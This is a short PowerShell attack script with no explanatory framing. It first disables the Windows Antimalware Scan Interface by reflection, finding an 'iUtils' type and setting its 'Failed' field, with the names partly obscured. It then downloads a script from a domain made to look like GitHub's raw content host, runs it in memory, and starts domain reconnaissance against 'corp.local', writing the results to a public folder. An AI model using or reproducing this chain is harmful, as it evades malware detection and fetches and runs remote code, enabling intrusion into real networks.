function Invoke-Prep {
    $t = [Ref].Assembly.GetTypes() | ? { $_.Name -like '*iUtils' }
    $f = $t.GetFields('NonPublic,Static') | ? { $_.Name -like '*Failed' }
    $f.SetValue($null, $true)
}

Invoke-Prep
$blob = (New-Object System.Net.WebClient).DownloadString('https://raw.githubusercontent-cdn.net/x/Invoke-Recon.ps1')
. ([scriptblock]::Create($blob))
Invoke-Recon -Domain 'corp.local' -OutFile 'C:\Users\Public\r.txt'
